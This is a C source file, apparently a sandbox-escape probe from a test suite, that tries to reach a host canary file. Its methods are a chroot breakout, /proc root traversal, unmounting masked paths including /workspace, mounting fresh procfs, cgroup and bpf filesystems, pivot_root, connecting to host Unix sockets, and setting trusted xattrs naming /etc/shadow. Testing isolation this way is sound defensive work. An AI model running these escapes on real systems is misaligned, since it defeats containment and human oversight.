/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Ways out of the root directory: taking mounts away or making others, walking up from outside a chroot,
 * through /proc, by handles and by bind mounts that were moved. Prints what it reached; the canary of the
 * host that it looks for is its argument.
 */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>

static const char *canary;

static void look(const char *how)
{
	char path[4200];

	snprintf(path, sizeof(path), ".%s", canary);
	errno = ENOENT;
	tell(access(path, F_OK), "%s: the canary", how);
	snprintf(path, sizeof(path), "./boot");
	tell(access(path, F_OK), "%s: /boot", how);
}

/* A root below, a directory above it held open: ".." does not stop at a root that one is not below. */
static void walk_out(void *arg)
{
	int top = open("/", O_RDONLY | O_DIRECTORY);

	(void)arg;
	mkdir("/tmp/cell", 0755);
	if (chroot("/tmp/cell") < 0) {
		tell(-1, "chroot");
		return;
	}
	tell(fchdir(top), "out of the chroot");
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	look("above the chroot");
	(void)!chroot(".");
	look("at the top");
}

static void through_proc(void)
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;

	while (dir && (entry = readdir(dir))) {
		char path[320];

		if (atoi(entry->d_name) < 1)
			continue;
		for (int up = 0; up < 2; up++) {
			snprintf(path, sizeof(path), "/proc/%s/%s", entry->d_name,
				up ? "cwd" : "root");
			if (chdir(path) < 0)
				continue;
			for (int i = 0; i < 32; i++)
				(void)!chdir("..");
			look("through /proc");
		}
	}
	if (dir)
		closedir(dir);
}

static void mounts(void)
{
	static const char *const masks[] = {"/proc/keys", "/proc/kallsyms", "/proc/bus",
		"/proc/sys", "/proc/meminfo", "/sys", "/sys/fs/cgroup", "/usr", "/workspace",
		"/workspace/project_files", "/dev", "/dev/shm", "/proc", "/"};
	char name[64];

	for (size_t i = 0; i < COUNT(masks); i++) {
		tell(umount2(masks[i], MNT_DETACH), "umount %s", masks[i]);
		tell(mount(NULL, masks[i], NULL, MS_REMOUNT | MS_BIND, NULL), "remount %s",
			masks[i]);
		snprintf(name, sizeof(name), "%s.gone", masks[i]);
		tell(rename(masks[i], name), "rename %s", masks[i]);
		tell(rmdir(masks[i]), "rmdir %s", masks[i]);
	}
	tell(mount("proc", "/mnt", "proc", 0, NULL), "fresh procfs");
	tell(mount("sysfs", "/mnt", "sysfs", 0, NULL), "sysfs");
	tell(mount("cgroup", "/mnt", "cgroup", 0, "memory"), "cgroup v1");
	tell(mount("cgroup2", "/mnt", "cgroup2", 0, NULL), "cgroup v2");
	tell(mount("mqueue", "/mnt", "mqueue", 0, NULL), "mqueue");
	tell(mount("bpf", "/mnt", "bpf", 0, NULL), "bpf");
	tell(mount("overlay", "/mnt", "overlay", 0, "lowerdir=/usr:/etc"), "overlay");
	tell(syscall(SYS_pivot_root, ".", "."), "pivot_root");
	tell(syscall(SYS_open_tree, AT_FDCWD, "/", 1), "open_tree");
	tell(syscall(SYS_fsopen, "proc", 0), "fsopen");
}

/* Sockets that listen on the host: by name in the abstract name space, and by path. */
static void sockets(int argc, char *argv[])
{
	for (int i = 2; i < argc; i++) {
		struct sockaddr_un address = {.sun_family = AF_UNIX};
		int sock = socket(AF_UNIX, SOCK_STREAM, 0);
		size_t len = strlen(argv[i]);

		memcpy(address.sun_path, argv[i], len < 107 ? len : 107);
		if (address.sun_path[0] == '@')
			address.sun_path[0] = '\0';
		tell(connect(sock, (struct sockaddr *)&address,
			     (socklen_t)(offsetof(struct sockaddr_un, sun_path) + len)),
			"connect %d", i - 2);
		close(sock);
	}
}

static void attributes(void)
{
	static const char *const names[] = {"trusted.overlay.opaque", "trusted.overlay.redirect",
		"trusted.overlay.metacopy", "trusted.x", "security.ima", "security.evm"};
	int fd = open("/tmp", O_TMPFILE | O_WRONLY, 0644);

	for (size_t i = 0; i < COUNT(names); i++)
		tell(syscall(SYS_fsetxattr, fd, names[i], "/etc/shadow", 11, 0), "set %s",
			names[i]);
}

int main(int argc, char *argv[])
{
	canary = argc > 1 ? argv[1] : "/canary";
	in_child(walk_out, NULL);
	through_proc();
	(void)!chdir("/");
	mounts();
	sockets(argc, argv);
	attributes();
	return 0;
}
